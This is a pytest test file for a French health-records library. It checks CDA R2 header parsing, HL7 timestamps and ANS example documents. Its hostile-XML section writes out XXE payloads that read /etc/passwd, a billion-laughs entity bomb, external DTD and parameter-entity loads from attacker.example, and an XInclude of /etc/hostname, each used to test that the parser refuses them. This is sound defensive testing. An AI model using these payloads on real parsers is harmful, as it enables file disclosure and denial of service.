"""CDA R2 header reading: every field, HL7 timestamps, hostile XML, and two real ANS example documents."""

from __future__ import annotations

import base64
import datetime as dt
from pathlib import Path

import pytest
from lxml import etree

from carnet.documents.cda import CdaCode, CdaId, parse_ts, parse_xml_safely, read_header
from carnet.documents.content import Media, detect_media
from carnet.errors import Invalid, IssueCode
from carnet.identifiers import INS_NIR_OID, INS_NIR_TEST_OID, InsKind, parse_ins
from carnet.terminology.valuesets import terminology
from tests import factories

DATA = Path(__file__).resolve().parent.parent / "data" / "cda"
WHERE = "Bundle.entry[2].resource"
INS = "255081416802538"
PLUS2 = dt.timezone(dt.timedelta(hours=2))
PLUS1 = dt.timezone(dt.timedelta(hours=1))


def _invalid(data: bytes) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read_header(data, WHERE)
    return caught.value


def _minimal(header: str, root: str = '<ClinicalDocument xmlns="urn:hl7-org:v3">') -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{root}{header}</ClinicalDocument>'.encode()


RECORD_TARGET = f'<recordTarget><patientRole><id root="{INS_NIR_OID}" extension="{INS}"/></patientRole></recordTarget>'
ID = '<id root="1.2.250.1.999.7"/>'
CODE = '<code code="11488-4" codeSystem="2.16.840.1.113883.6.1"/>'
EFFECTIVE = '<effectiveTime value="20261001100000+0200"/>'


# ---------------------------------------------------------------- header of a factory-built CDA


def test_read_header_reads_every_field_of_a_complete_cda() -> None:
    data = factories.cda(
        INS,
        type_code="11502-2",
        marker="TSH",
        author_idnat="810002422979",
        doc_id="1.2.250.1.999.1.42",
        set_id="1.2.250.1.999.1.40",
        version=3,
        effective="20261001100000+0200",
        confidentiality="R",
        parent_id="1.2.250.1.999.1.41",
    )
    header = read_header(data, WHERE)

    assert header.document_id == CdaId("1.2.250.1.999.1.42", None)
    assert header.document_id.unique_id == "1.2.250.1.999.1.42"
    assert header.code == CdaCode("11502-2", "2.16.840.1.113883.6.1", None)
    assert header.title == "Compte rendu TSH"
    assert header.effective_time == dt.datetime(2026, 10, 1, 10, 0, tzinfo=PLUS2)
    assert header.effective_time is not None
    assert header.effective_time.utcoffset() == dt.timedelta(hours=2)
    assert header.confidentiality == "R"
    assert header.language == "fr-FR"
    assert header.set_id == CdaId("1.2.250.1.999.1.40", None)
    assert header.version_number == 3
    assert header.patient_ids == [CdaId(INS_NIR_TEST_OID, INS)]
    assert header.ins_ids == [CdaId(INS_NIR_TEST_OID, INS)]
    assert header.author_ids == [CdaId("1.2.250.1.71.4.2.1", "810002422979")]
    assert header.author_idnats == ["810002422979"]
    assert header.author_org_ids == []
    assert header.facility_type == CdaCode("SA07", "1.2.250.1.71.4.2.4", None)
    assert header.practice_setting == CdaCode("AMBULATOIRE", "1.2.250.1.213.1.1.4.9", None)
    assert header.service_start == dt.datetime(2026, 10, 1, 9, 0, tzinfo=PLUS2)
    assert header.service_stop == dt.datetime(2026, 10, 1, 9, 30, tzinfo=PLUS2)
    assert header.parent_document_ids == [CdaId("1.2.250.1.999.1.41", None)]
    assert header.non_xml_media_type is None
    assert header.template_ids == ["2.16.840.1.113883.2.8.2.1", "1.2.250.1.213.1.1.1.1"]


def test_read_header_without_a_parent_document() -> None:
    header = read_header(factories.cda(INS), WHERE)
    assert header.parent_document_ids == []
    assert header.version_number == 1
    assert header.confidentiality == "N"
    assert header.code is not None
    assert header.code.code == "11488-4"


def test_read_header_keeps_the_ins_under_its_oid() -> None:
    header = read_header(factories.cda(INS, INS_NIR_OID), WHERE)
    assert header.ins_ids == [CdaId(INS_NIR_OID, INS)]


def test_ins_ids_skip_local_patient_identifiers() -> None:
    data = factories.cda(INS).replace(
        b"<patient><name>", b'<id root="1.2.3.4.567.8.9.10" extension="IPP42"/><patient><name>'
    )
    header = read_header(data, WHERE)
    assert header.patient_ids == [CdaId(INS_NIR_TEST_OID, INS), CdaId("1.2.3.4.567.8.9.10", "IPP42")]
    assert header.ins_ids == [CdaId(INS_NIR_TEST_OID, INS)]


def test_author_idnats_skip_identifiers_of_other_authorities_and_ids_without_extension() -> None:
    data = factories.cda(INS).replace(
        b'<assignedAuthor><id root="1.2.250.1.71.4.2.1" extension="801234567897"/>',
        b'<assignedAuthor><id root="1.2.250.1.71.4.2.1" extension="801234567897"/>'
        b'<id root="1.2.3.4" extension="LOCAL-7"/><id root="1.2.250.1.71.4.2.1"/>',
    )
    header = read_header(data, WHERE)
    assert len(header.author_ids) == 3
    assert header.author_idnats == ["801234567897"]


def test_cda_id_unique_id_uses_the_xds_caret_form() -> None:
    assert CdaId("1.2.250.1.999", "doc-7").unique_id == "1.2.250.1.999^doc-7"
    assert CdaId("1.2.250.1.999", None).unique_id == "1.2.250.1.999"
    assert CdaId("1.2.250.1.999", "").unique_id == "1.2.250.1.999"


def test_title_whitespace_is_collapsed() -> None:
    data = _minimal(f"{ID}{CODE}<title>\n  Compte   rendu\n  <sup>bis</sup> </title>{EFFECTIVE}{RECORD_TARGET}")
    assert read_header(data, WHERE).title == "Compte rendu bis"


def test_non_xml_body_media_type_is_read() -> None:
    body = '<component><nonXMLBody><text mediaType="text/plain" representation="B64">SGVsbG8=</text></nonXMLBody></component>'
    header = read_header(_minimal(f"{ID}{CODE}{EFFECTIVE}{RECORD_TARGET}{body}"), WHERE)
    assert header.non_xml_media_type == "text/plain"


def test_optional_header_parts_may_be_absent() -> None:
    header = read_header(_minimal(f"{ID}{CODE}{EFFECTIVE}{RECORD_TARGET}"), WHERE)
    assert header.title is None
    assert header.confidentiality is None
    assert header.language is None
    assert header.set_id is None
    assert header.version_number is None
    assert header.author_ids == []
    assert header.facility_type is None
    assert header.practice_setting is None
    assert header.service_start is None
    assert header.service_stop is None
    assert header.template_ids == []


def test_comments_and_processing_instructions_do_not_disturb_the_header() -> None:
    data = _minimal(f"<!-- un commentaire -->{ID}<?oxygen x?>{CODE}{EFFECTIVE}{RECORD_TARGET}")
    assert read_header(data, WHERE).document_id == CdaId("1.2.250.1.999.7", None)


# ---------------------------------------------------------------- missing or invalid header parts


def test_missing_record_target_is_required() -> None:
    error = _invalid(_minimal(f"{ID}{CODE}{EFFECTIVE}"))
    assert "recordTarget/patientRole/id" in error.message
    assert [(p.code, p.expression) for p in error.problems] == [(IssueCode.REQUIRED, WHERE)]


def test_every_missing_required_part_is_named() -> None:
    error = _invalid(_minimal(""))
    assert error.message == "the CDA header lacks id, code, effectiveTime, recordTarget/patientRole/id"
    assert error.problems[0].code is IssueCode.REQUIRED


@pytest.mark.parametrize(
    ("header", "missing"),
    [
        (f"{CODE}{EFFECTIVE}{RECORD_TARGET}", "id"),
        (f'<id extension="no-root"/>{CODE}{EFFECTIVE}{RECORD_TARGET}', "id"),
        (f"{ID}{EFFECTIVE}{RECORD_TARGET}", "code"),
        (f'{ID}<code nullFlavor="UNK"/>{EFFECTIVE}{RECORD_TARGET}', "code"),
        (f"{ID}{CODE}{RECORD_TARGET}", "effectiveTime"),
        (f'{ID}{CODE}<effectiveTime nullFlavor="UNK"/>{RECORD_TARGET}', "effectiveTime"),
        (f"{ID}{CODE}{EFFECTIVE}<recordTarget><patientRole/></recordTarget>", "recordTarget/patientRole/id"),
    ],
)
def test_each_missing_required_part_is_named_alone(header: str, missing: str) -> None:
    error = _invalid(_minimal(header))
    assert error.message == f"the CDA header lacks {missing}"


def test_invalid_effective_time_is_reported() -> None:
    error = _invalid(factories.cda(INS, effective="2026-10-01T10:00:00"))
    assert len(error.problems) == 1
    assert "effectiveTime" in error.problems[0].message
    assert "'2026-10-01T10:00:00' is not an HL7 timestamp" in error.problems[0].message
    assert error.problems[0].expression == WHERE


def test_invalid_service_times_are_all_reported() -> None:
    data = (
        factories.cda(INS)
        .replace(b'<low value="20261001090000+0200"/>', b'<low value="hier"/>')
        .replace(b'<high value="20261001093000+0200"/>', b'<high value="demain"/>')
    )
    error = _invalid(data)
    messages = [p.message for p in error.problems]
    assert len(messages) == 2
    assert any("'hier'" in m for m in messages)
    assert any("'demain'" in m for m in messages)


def test_non_integer_version_number_is_reported() -> None:
    data = factories.cda(INS).replace(b'<versionNumber value="1"/>', b'<versionNumber value="un"/>')
    error = _invalid(data)
    assert [p.message for p in error.problems] == ["CDA versionNumber is not an integer"]


# ---------------------------------------------------------------- not a CDA, not XML


@pytest.mark.parametrize(
    "data",
    [
        b"<ClinicalDocument><id root='1'/></ClinicalDocument>",  # no namespace
        b'<ClinicalDocument xmlns="urn:hl7-org:v2"/>',
        b'<Bundle xmlns="http://hl7.org/fhir"><type value="document"/></Bundle>',
        b'<h:section xmlns:h="urn:hl7-org:v3"/>',
    ],
)
def test_non_cda_root_is_refused(data: bytes) -> None:
    error = _invalid(data)
    assert "CDA R2 ClinicalDocument" in error.message
    assert error.problems[0].expression == WHERE


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="1">',
        b'<ClinicalDocument xmlns="urn:hl7-org:v3"></Clinical>',
        b"%PDF-1.7\n",
        b"<a>&undefined;</a>",
    ],
)
def test_not_well_formed_xml_is_refused(data: bytes) -> None:
    error = _invalid(data)
    assert error.message.startswith("the XML content is not well-formed")
    assert error.problems[0].code is IssueCode.INVALID
    assert error.problems[0].expression == WHERE


# ---------------------------------------------------------------- hostile XML

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

HOSTILE = {
    "doctype": b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
    "lower-case doctype": b'<!doctype ClinicalDocument><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
    "external dtd": b'<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/cda.dtd"><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
    "xxe": XXE,
    "billion laughs": BILLION_LAUGHS,
    "parameter entity": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
    "bare entity declaration": b'<!ENTITY x "y"><r/>',
}


@pytest.mark.parametrize("data", list(HOSTILE.values()), ids=list(HOSTILE))
def test_doctype_and_entities_are_refused_as_security_issues(data: bytes) -> None:
    error = _invalid(data)
    assert "DOCTYPE" in error.message
    assert [(p.code, p.expression) for p in error.problems] == [(IssueCode.SECURITY, WHERE)]


def test_doctype_hidden_after_a_long_comment_is_still_refused() -> None:
    # The quick scan looks at the first 4 KiB only; the parsed tree is checked as well.
    data = b'<?xml version="1.0"?><!--' + b"x" * 8000 + b"-->" + XXE.split(b"?>", 1)[1]
    error = _invalid(data)
    assert error.problems[0].code is IssueCode.SECURITY


def test_billion_laughs_hidden_after_a_long_comment_is_refused_without_expansion() -> None:
    data = b"<!--" + b" " * 8000 + b"-->" + BILLION_LAUGHS.split(b"?>", 1)[1]
    error = _invalid(data)
    assert error.problems[0].code is IssueCode.SECURITY


def test_utf16_doctype_is_refused() -> None:
    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>'.encode("utf-16")
    assert b"<!DOCTYPE" not in data  # invisible to a byte scan
    error = _invalid(data)
    assert error.problems[0].code is IssueCode.SECURITY


def test_xinclude_is_not_processed() -> None:
    data = b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hostname" parse="text"/></r>'
    root = parse_xml_safely(data, WHERE)
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert (root.text or "") == ""
    assert etree.tostring(root).count(b"xi:include") == 1


def test_parse_xml_safely_returns_the_root() -> None:
    root = parse_xml_safely(b'<?xml version="1.0"?><!-- c --><a><?pi x?><b>1</b></a>', WHERE)
    assert root.tag == "a"
    assert [child.tag for child in root] == ["b"]  # comments and processing instructions removed


# ---------------------------------------------------------------- parse_ts

UTC = dt.UTC


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026", dt.datetime(2026, 1, 1, tzinfo=UTC)),
        ("202610", dt.datetime(2026, 10, 1, tzinfo=UTC)),
        ("20261015", dt.datetime(2026, 10, 15, tzinfo=UTC)),
        ("2026101513", dt.datetime(2026, 10, 15, 13, tzinfo=UTC)),
        ("202610151347", dt.datetime(2026, 10, 15, 13, 47, tzinfo=UTC)),
        ("20261015134745", dt.datetime(2026, 10, 15, 13, 47, 45, tzinfo=UTC)),
        ("20261015134745.1234", dt.datetime(2026, 10, 15, 13, 47, 45, tzinfo=UTC)),
        ("20261015134745+0200", dt.datetime(2026, 10, 15, 13, 47, 45, tzinfo=PLUS2)),
        ("20261015134745.5+0100", dt.datetime(2026, 10, 15, 13, 47, 45, tzinfo=PLUS1)),
        (
            "20261015134745-0530",
            dt.datetime(2026, 10, 15, 13, 47, 45, tzinfo=dt.timezone(-dt.timedelta(hours=5, minutes=30))),
        ),
        ("20261015+0100", dt.datetime(2026, 10, 15, tzinfo=PLUS1)),
        ("202610151347+0000", dt.datetime(2026, 10, 15, 13, 47, tzinfo=UTC)),
        (" 20261015 ", dt.datetime(2026, 10, 15, tzinfo=UTC)),
    ],
)
def test_parse_ts_precisions_and_zones(value: str, expected: dt.datetime) -> None:
    parsed = parse_ts(value)
    assert parsed == expected
    assert parsed is not None
    assert parsed.utcoffset() == expected.utcoffset()


def test_parse_ts_keeps_the_wall_clock_and_offset() -> None:
    parsed = parse_ts("20210401134745+0100")
    assert parsed is not None
    assert (parsed.hour, parsed.minute, parsed.second) == (13, 47, 45)
    assert parsed.astimezone(UTC) == dt.datetime(2021, 4, 1, 12, 47, 45, tzinfo=UTC)


@pytest.mark.parametrize("value", [None, ""])
def test_parse_ts_of_nothing_is_none(value: str | None) -> None:
    assert parse_ts(value) is None


@pytest.mark.parametrize(
    "value",
    ["2026-10-15", "20261", "202610151", "20261015T1347", "20261015134745+02", "20261015134745Z", "abc", "hier"],
)
def test_parse_ts_refuses_malformed_timestamps(value: str) -> None:
    with pytest.raises(ValueError, match="is not an HL7 timestamp"):
        parse_ts(value)


@pytest.mark.parametrize("value", ["20261315", "20260230", "2026101525", "20261015136000"])
def test_parse_ts_refuses_impossible_dates(value: str) -> None:
    with pytest.raises(ValueError, match=r"range|must be in"):
        parse_ts(value)


# ---------------------------------------------------------------- real ANS example documents


def _ans(name: str) -> bytes:
    return (DATA / name).read_bytes()


def test_ans_unstructured_cda_header() -> None:
    header = read_header(_ans("DOC_NON_STRUCTURE_CDA-R2-N1.xml"), WHERE)

    assert header.document_id == CdaId("1.3.6.1.4.1.19376.1.2.20.12345.1.1", None)
    assert header.code == CdaCode("11502-2", "2.16.840.1.113883.6.1", "CR d'examens biologiques")
    assert header.title == "Compte rendu d'examens biologiques"
    assert header.effective_time == dt.datetime(2021, 4, 1, 13, 47, 45, tzinfo=PLUS1)
    assert header.confidentiality == "N"
    assert header.language == "fr-FR"
    assert header.set_id == CdaId("1.3.6.1.4.1.19376.1.2.20.12345.1", None)
    assert header.version_number == 1
    assert header.ins_ids == [CdaId("1.2.250.1.213.1.4.10", "279035121518989")]
    assert CdaId("1.2.3.4.567.8.9.10", "1234567890121") in header.patient_ids
    assert header.author_idnats == ["801234534765"]
    assert header.author_org_ids == [CdaId("1.2.250.1.71.4.2.2", "1120459876")]
    assert header.facility_type == CdaCode("SA07", "1.2.250.1.71.4.2.4", "Cabinet individuel")
    assert header.practice_setting == CdaCode("AMBULATOIRE", "1.2.250.1.213.1.1.4.9", "Ambulatoire")
    assert header.service_start == dt.datetime(2021, 1, 4, 13, 47, tzinfo=PLUS1)
    assert header.service_stop == dt.datetime(2021, 1, 4, 13, 55, tzinfo=PLUS1)
    assert header.parent_document_ids == []
    assert header.non_xml_media_type == "application/pdf"
    assert "1.3.6.1.4.1.19376.1.2.20" in header.template_ids  # IHE XDS-SD


def test_ans_unstructured_cda_body_really_is_a_pdf() -> None:
    root = parse_xml_safely(_ans("DOC_NON_STRUCTURE_CDA-R2-N1.xml"), WHERE)
    text = root.find("{urn:hl7-org:v3}component/{urn:hl7-org:v3}nonXMLBody/{urn:hl7-org:v3}text")
    assert text is not None
    assert text.get("representation") == "B64"
    assert detect_media(base64.b64decode(text.text or "")) is Media.PDF


def test_ans_laboratory_report_header() -> None:
    header = read_header(_ans("BIO-CR-BIO_2024.01_TSH_1.xml"), WHERE)

    assert header.document_id == CdaId("1.2.250.1.213.1.1.1.55.2024.9.1", None)
    assert header.code == CdaCode("11502-2", "2.16.840.1.113883.6.1", "CR d'examens biologiques")
    assert header.effective_time == dt.datetime(2021, 4, 1, 17, 10, tzinfo=PLUS1)
    assert header.confidentiality == "N"
    assert header.set_id == CdaId("1.2.250.1.213.1.1.1.55.2024.9", None)
    assert header.version_number == 1
    assert header.ins_ids == [CdaId("1.2.250.1.213.1.4.10", "279035121518989")]
    assert header.author_idnats == ["801234534765"]
    assert header.facility_type == CdaCode("SA25", "1.2.250.1.71.4.2.4", "Laboratoire de biologie médicale")
    assert header.practice_setting is not None
    assert header.practice_setting.code == "AMBULATOIRE"
    assert header.service_start == dt.datetime(2021, 1, 4, 9, 22, tzinfo=PLUS1)
    assert header.service_stop == dt.datetime(2021, 1, 4, 16, 5, tzinfo=PLUS1)
    assert header.non_xml_media_type is None
    assert header.template_ids == [
        "2.16.840.1.113883.2.8.2.1",
        "1.2.250.1.213.1.1.1.1",
        "1.3.6.1.4.1.19376.1.3.3",
        "1.2.250.1.213.1.1.1.55",
    ]
    assert terminology().format_for_templates(header.template_ids) == "urn:ihe:lab:xd-lab:2008"


@pytest.mark.parametrize("name", ["DOC_NON_STRUCTURE_CDA-R2-N1.xml", "BIO-CR-BIO_2024.01_TSH_1.xml"])
def test_ans_test_ins_is_valid_but_only_outside_production(name: str) -> None:
    (ins_id,) = read_header(_ans(name), WHERE).ins_ids
    ins = parse_ins(ins_id.root, ins_id.extension, allow_test=True)
    assert ins.kind is InsKind.TEST
    assert ins.value == "279035121518989"
    with pytest.raises(ValueError, match="refused in production"):
        parse_ins(ins_id.root, ins_id.extension, allow_test=False)
